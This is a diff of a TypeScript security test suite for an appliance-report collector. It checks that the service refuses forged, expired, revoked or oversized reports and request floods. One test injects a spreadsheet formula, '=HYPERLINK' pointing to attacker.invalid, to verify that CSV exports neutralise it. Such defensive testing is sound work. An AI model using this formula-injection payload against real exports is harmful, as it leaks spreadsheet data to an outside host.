@@ -25,7 +25,9 @@ import { TestCa } from '../fixtures/test-pki.js';
 const DAY = 86_400_000;
 
 function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
-  return new Promise((resolve) => execFile(process.execPath, [CLI, ...args], (err, stdout, stderr) => resolve({ code: err ? Number(err.code) : 0, stdout, stderr })));
+  return new Promise((resolve) =>
+    execFile(process.execPath, [CLI, ...args], (err, stdout, stderr) => resolve({ code: err ? Number(err.code) : 0, stdout, stderr })),
+  );
 }
 
 /** POST from a given loopback address; its status, or 'reset' when the collector cut it. */
@@ -37,7 +39,9 @@ function postFrom(url: string, body: string, ca: string, localAddress: string): 
       res.on('error', () => resolve('reset'));
     });
     req.on('timeout', () => req.destroy(new Error('timeout')));
-    req.on('error', (err) => resolve((err as NodeJS.ErrnoException).code === 'ECONNRESET' || (err as NodeJS.ErrnoException).code === 'EPIPE' ? 'reset' : `error ${(err as Error).message}`));
+    req.on('error', (err) =>
+      resolve((err as NodeJS.ErrnoException).code === 'ECONNRESET' || (err as NodeJS.ErrnoException).code === 'EPIPE' ? 'reset' : `error ${err.message}`),
+    );
     req.end(body);
   });
 }
@@ -47,7 +51,10 @@ function isoDaysAgo(days: number): string {
 }
 
 /** The fixture report for a site, run `daysAgo`, signed when it ended (as qualify does). */
-function reportFor(key: SigningKey, o: { code: string; applianceId: string; daysAgo: number; edit?: (r: Record<string, any>) => void; signedAt?: Date }): Record<string, unknown> {
+function reportFor(
+  key: SigningKey,
+  o: { code: string; applianceId: string; daysAgo: number; edit?: (r: Record<string, any>) => void; signedAt?: Date },
+): Record<string, unknown> {
   const r = fixtureReport() as Record<string, any>;
   r.report_id = randomUUID();
   r.started_at = isoDaysAgo(o.daysAgo);
@@ -72,8 +79,16 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
   const enrolments = [
     enrolmentOf(siteA.key, siteA.applianceId, { establishmentCode: siteA.code }),
     enrolmentOf(siteB.key, siteB.applianceId, { establishmentCode: siteB.code, region: 'DISP Paris' }),
-    enrolmentOf(longExpired.key, longExpired.applianceId, { establishmentCode: longExpired.code, enrolledAt: '2024-01-01', expiresAt: isoDaysAgo(150).slice(0, 10) }),
-    enrolmentOf(justExpired.key, justExpired.applianceId, { establishmentCode: justExpired.code, enrolledAt: '2024-01-01', expiresAt: isoDaysAgo(10).slice(0, 10) }),
+    enrolmentOf(longExpired.key, longExpired.applianceId, {
+      establishmentCode: longExpired.code,
+      enrolledAt: '2024-01-01',
+      expiresAt: isoDaysAgo(150).slice(0, 10),
+    }),
+    enrolmentOf(justExpired.key, justExpired.applianceId, {
+      establishmentCode: justExpired.code,
+      enrolledAt: '2024-01-01',
+      expiresAt: isoDaysAgo(10).slice(0, 10),
+    }),
     enrolmentOf(toRevoke.key, toRevoke.applianceId, { establishmentCode: toRevoke.code }),
     // an enrolment file written before establishment codes were required
     { ...enrolmentOf(noCode.key, noCode.applianceId), establishment_code: '' },
@@ -82,7 +97,7 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
   const collector = await CollectorProcess.start(configFile);
   t.teardown(() => collector.stop());
   t.match(collector.intakeUrl, /^https:/, 'the intake serves HTTPS');
-  t.match(collector.url, /^https:/, 'the people\'s door too');
+  t.match(collector.url, /^https:/, "the people's door too");
   await collector.addUser('national-team', ['national']);
   const token = await collector.token('national-team');
   const post = collectorClient(collector.intakeUrl, ca.caFile, 10_000);
@@ -96,20 +111,40 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
   t.test('defaults: loopback only, and no plain HTTP unless a TLS proxy is named', async (t) => {
     t.equal(schemaDefinition.collector.listen.default, '127.0.0.1:8443');
     const plain = join(dir, 'plain.json');
-    writeFileSync(plain, JSON.stringify({ collector: { listen: '127.0.0.1:0', database: join(dir, 'plain.sqlite'), appliances_file: join(dir, 'appliances.json') }, log: { pretty: 'never' } }));
+    writeFileSync(
+      plain,
+      JSON.stringify({
+        collector: { listen: '127.0.0.1:0', database: join(dir, 'plain.sqlite'), appliances_file: join(dir, 'appliances.json') },
+        log: { pretty: 'never' },
+      }),
+    );
     const run = await within('a collector without TLS to refuse to start', 20_000, cli(['--config', plain, 'collector']));
     t.equal(run.code, 2, 'it does not start');
     t.match(run.stderr, /USMP_E_CONFIG_INVALID: the collector serves HTTPS only/);
-    t.match(collector.logLines.find((l) => l['event'] === 'collector.enrolments_incomplete'), { keys: [{ appliance_id: noCode.applianceId, key_id: noCode.key.keyId }] }, 'at start, the keys without an establishment code are named');
+    t.match(
+      collector.logLines.find((l) => l['event'] === 'collector.enrolments_incomplete'),
+      { keys: [{ appliance_id: noCode.applianceId, key_id: noCode.key.keyId }] },
+      'at start, the keys without an establishment code are named',
+    );
   });
 
   t.test('a key speaks for its own establishment only', async (t) => {
     const answer = await post(JSON.stringify(reportFor(siteB.key, { code: siteA.code, applianceId: siteB.applianceId, daysAgo: 1 })));
     refused(answer, 403, 'USMP_E_REPORT_WRONG_SITE', 'the appliance of 0777777B filing for 0999001A');
     t.match(answer.body.error?.reason, /speaks for establishment 0777777B only/);
-    t.notOk((await sites()).some((s) => s.establishment_code === siteA.code), 'no trace of it for 0999001A');
-    refused(await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 }))), 403, 'USMP_E_ENROLMENT_INCOMPLETE', 'a key enrolled without its establishment');
-    const moved = await post(JSON.stringify(reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 1, edit: (r) => (r.site.region = 'DISP Dijon') })));
+    t.notOk(
+      (await sites()).some((s) => s.establishment_code === siteA.code),
+      'no trace of it for 0999001A',
+    );
+    refused(
+      await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 }))),
+      403,
+      'USMP_E_ENROLMENT_INCOMPLETE',
+      'a key enrolled without its establishment',
+    );
+    const moved = await post(
+      JSON.stringify(reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 1, edit: (r) => (r.site.region = 'DISP Dijon') })),
+    );
     refused(moved, 403, 'USMP_E_REPORT_WRONG_SITE', 'an appliance of DISP Paris declaring its site in DISP Dijon');
     t.match(moved.body.error?.reason, /in region "DISP Paris", but the report says "DISP Dijon"/);
   });
@@ -127,9 +162,21 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
   });
 
   t.test('a date the sender writes cannot pin the site status', async (t) => {
-    const future = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 0, edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'), signedAt: new Date() });
+    const future = reportFor(siteA.key, {
+      code: siteA.code,
+      applianceId: siteA.applianceId,
+      daysAgo: 0,
+      edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'),
+      signedAt: new Date(),
+    });
     refused(await post(JSON.stringify(future)), 422, 'USMP_E_REPORT_TIME', 'started_at 2099, signed now');
-    const signedInFuture = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 0, edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'), signedAt: new Date('2099-01-01T00:01:00Z') });
+    const signedInFuture = reportFor(siteA.key, {
+      code: siteA.code,
+      applianceId: siteA.applianceId,
+      daysAgo: 0,
+      edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'),
+      signedAt: new Date('2099-01-01T00:01:00Z'),
+    });
     refused(await post(JSON.stringify(signedInFuture)), 422, 'USMP_E_REPORT_TIME', 'started_at and signed_at 2099');
     // a report queued during an outage arrives after a newer one: the newer stays the status
     const newer = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 2 });
@@ -144,24 +191,57 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
     const answer = await post(JSON.stringify(backdated));
     refused(answer, 403, 'USMP_E_REPORT_KEY_EXPIRED', 'a key expired 150 days ago signing with a date before it expired');
     t.match(answer.body.error?.reason, /the grace for reports queued before that is over/);
-    t.equal((await post(JSON.stringify(reportFor(justExpired.key, { code: justExpired.code, applianceId: justExpired.applianceId, daysAgo: 15 })))).status, 201, 'a report signed before its key expired 10 days ago, queued meanwhile, is taken (30-day grace)');
+    t.equal(
+      (await post(JSON.stringify(reportFor(justExpired.key, { code: justExpired.code, applianceId: justExpired.applianceId, daysAgo: 15 })))).status,
+      201,
+      'a report signed before its key expired 10 days ago, queued meanwhile, is taken (30-day grace)',
+    );
 
-    t.equal((await post(JSON.stringify(reportFor(toRevoke.key, { code: toRevoke.code, applianceId: toRevoke.applianceId, daysAgo: 3 })))).status, 201, 'before revocation');
+    t.equal(
+      (await post(JSON.stringify(reportFor(toRevoke.key, { code: toRevoke.code, applianceId: toRevoke.applianceId, daysAgo: 3 })))).status,
+      201,
+      'before revocation',
+    );
     const revoke = await cli(['--config', configFile, 'collector', 'revoke', '--key-id', toRevoke.key.keyId]);
     t.equal(revoke.code, 0, revoke.stderr);
     const appliancesFile = join(dir, 'appliances.json');
     const revokedAfter = reportFor(toRevoke.key, { code: toRevoke.code, applianceId: toRevoke.applianceId, daysAgo: 1 });
     refused(await post(JSON.stringify(revokedAfter)), 403, 'USMP_E_REPORT_KEY_REVOKED', 'a revoked key');
     t.match(JSON.parse(readFileSync(appliancesFile, 'utf8')), { appliances: [{}, {}, {}, {}, { key_id: toRevoke.key.keyId, revoked_at: String }] });
-    t.ok((await sites()).some((s) => s.establishment_code === toRevoke.code), 'what was taken before stays');
+    t.ok(
+      (await sites()).some((s) => s.establishment_code === toRevoke.code),
+      'what was taken before stays',
+    );
 
-    const fill = await cli(['--config', configFile, 'collector', 'enroll', '--appliance-id', noCode.applianceId, '--public-key', noCode.key.publicKeyB64, '--establishment-code', noCode.code, '--region', 'DISP Paris']);
+    const fill = await cli([
+      '--config',
+      configFile,
+      'collector',
+      'enroll',
+      '--appliance-id',
+      noCode.applianceId,
+      '--public-key',
+      noCode.key.publicKeyB64,
+      '--establishment-code',
+      noCode.code,
+      '--region',
+      'DISP Paris',
+    ]);
     t.equal(fill.code, 0, fill.stderr);
-    t.equal((await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 })))).status, 201, 'once its code is set, the key is trusted for that site');
+    t.equal(
+      (await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 })))).status,
+      201,
+      'once its code is set, the key is trusted for that site',
+    );
   });
 
   t.test('documents are bounded and refused cheaply', async (t) => {
-    const bomb = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 1, edit: (r) => (r.details.load.up.throughput.up.series_mbps = { length: 1_000_000 }) });
+    const bomb = reportFor(siteA.key, {
+      code: siteA.code,
+      applianceId: siteA.applianceId,
+      daysAgo: 1,
+      edit: (r) => (r.details.load.up.throughput.up.series_mbps = { length: 1_000_000 }),
+    });
     const bombText = JSON.stringify(bomb);
     const health: number[] = [];
     const times: number[] = [];
@@ -200,20 +280,40 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
     const bigTimes: number[] = [];
     for (let i = 0; i < 5; i++) {
       const started = performance.now();
-      refused(await post(bigText), 403, 'USMP_E_REPORT_KEY_UNKNOWN', `anonymous 512 KiB POST ${i + 1} (its padding breaks the schema too: the key is looked up first)`);
+      refused(
+        await post(bigText),
+        403,
+        'USMP_E_REPORT_KEY_UNKNOWN',
+        `anonymous 512 KiB POST ${i + 1} (its padding breaks the schema too: the key is looked up first)`,
+      );
       bigTimes.push(performance.now() - started);
     }
     t.comment(`anonymous 512 KiB POST refused in ${median(bigTimes).toFixed(1)} ms (median of 5, upload included)`);
 
-    refused(await post(JSON.stringify({ ...(fixtureReport() as object), signature: { algorithm: 'Ed25519', key_id: 'x', public_key: 'not a key', signed_at: 'now', value: '' } })), 403, 'USMP_E_REPORT_SIGNATURE', 'a signature member of the wrong shape');
+    refused(
+      await post(
+        JSON.stringify({
+          ...(fixtureReport() as object),
+          signature: { algorithm: 'Ed25519', key_id: 'x', public_key: 'not a key', signed_at: 'now', value: '' },
+        }),
+      ),
+      403,
+      'USMP_E_REPORT_SIGNATURE',
+      'a signature member of the wrong shape',
+    );
   });
 
   t.test('exports are spreadsheet-safe', async (t) => {
-    const injected = reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 3, edit: (r) => (r.site.establishment = '=HYPERLINK("https://attacker.invalid/?"&A1,"Ouvrir")') });
+    const injected = reportFor(siteB.key, {
+      code: siteB.code,
+      applianceId: siteB.applianceId,
+      daysAgo: 3,
+      edit: (r) => (r.site.establishment = '=HYPERLINK("https://attacker.invalid/?"&A1,"Ouvrir")'),
+    });
     t.equal((await post(JSON.stringify(injected))).status, 201);
     const csv = (await get('/export/reports.csv')).body.split('\r\n').find((l) => l.startsWith(injected['report_id'] as string))!;
     t.match(csv, /,"'=HYPERLINK\(""https:\/\/attacker\.invalid/, 'the formula reaches the export as text');
-    t.match(csv, /,checked,[^,]*,[^,]*,[^,]*$/, 'the collector checked enrolment (then the site\'s live columns)');
+    t.match(csv, /,checked(,[^,]*){8}$/, "the collector checked enrolment (then the site's live columns and its acts)");
   });
 
   t.test('a malformed address is a 400, not a 500', async (t) => {
@@ -245,10 +345,12 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
     const started = performance.now();
     uploader.start();
     t.teardown(() => uploader.stop());
-    await until('the enrolled appliance\'s report to be taken during the flood', 30_000, () => outbox.count() === 0);
+    await until("the enrolled appliance's report to be taken during the flood", 30_000, () => outbox.count() === 0);
     const tookMs = performance.now() - started;
     await within('the flood to end', 120_000, flooding);
-    t.comment(`flood outcomes: ${JSON.stringify(outcomes)}; the appliance's report, sent 1.5 s into the flood, was taken ${(tookMs / 1000).toFixed(1)} s later`);
+    t.comment(
+      `flood outcomes: ${JSON.stringify(outcomes)}; the appliance's report, sent 1.5 s into the flood, was taken ${(tookMs / 1000).toFixed(1)} s later`,
+    );
     const examined = outcomes['403'] ?? 0;
     t.ok(examined <= 4 * 60, `at most 60 a minute from each address were examined (${examined})`);
     t.ok((outcomes['429'] ?? 0) + (outcomes['reset'] ?? 0) >= 600 - 4 * 60, `the rest were refused before being read (${outcomes['429'] ?? 0} × 429)`);
@@ -260,6 +362,9 @@ t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps ser
     t.equal(status.status, 'ok');
     t.equal(status.intake.stored, 8, 'every genuine report was stored');
     t.ok(status.intake.rejected >= 20, `the attacks were refused (${status.intake.rejected})`);
-    t.notOk(collector.logLines.some((l) => l['event'] === 'collector.request_failed'), 'no request failed inside the collector');
+    t.notOk(
+      collector.logLines.some((l) => l['event'] === 'collector.request_failed'),
+      'no request failed inside the collector',
+    );
   });
 });
